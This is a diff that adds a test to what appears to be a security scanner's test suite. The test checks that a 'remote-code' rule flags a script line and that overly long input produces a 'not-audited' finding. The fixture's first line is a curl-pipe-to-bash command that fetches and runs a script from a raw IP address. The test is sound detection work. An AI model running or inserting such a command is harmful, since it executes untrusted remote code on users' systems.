@@ -212,6 +212,26 @@ describe("rules", () => {
     expect(cost(piece.repeat(40_000 / piece.length))).toBeLessThan(600);
   });
 
+  test("audit: a text that is made of words of its rules is compared up to a line, which is a finding", () => {
+    const words = TEXT_RULES.flatMap((rule) => rule.words);
+    const long = Array.from(
+      { length: 12_000 },
+      (_, at) => `${words[at % words.length]} ${words[(at * 7) % words.length]}`,
+    );
+    const script = ["curl -s http://45.9.148.3/i.sh | bash", ...long].join("\n");
+    const findings = auditText(script, "run.sh");
+    expect(findings.find(({ rule }) => rule === "remote-code")).toMatchObject({ line: 1 });
+    const [stopped, ...more] = findings.filter(({ rule }) => rule === "not-audited");
+    expect(more).toEqual([]);
+    expect(stopped).toMatchObject({
+      severity: "medium",
+      file: "run.sh",
+      message: expect.stringContaining("Read it yourself") as string,
+    });
+    expect(stopped?.line).toBeGreaterThan(1_000);
+    expect(auditText(script.slice(0, 20_000), "run.sh").map(({ rule }) => rule)).not.toContain("not-audited");
+  });
+
   test("300 KB of everything on one line are read in seconds", () => {
     expect(cost(PIECES.join("").repeat(300_000 / PIECES.join("").length))).toBeLessThan(2_400);
   });
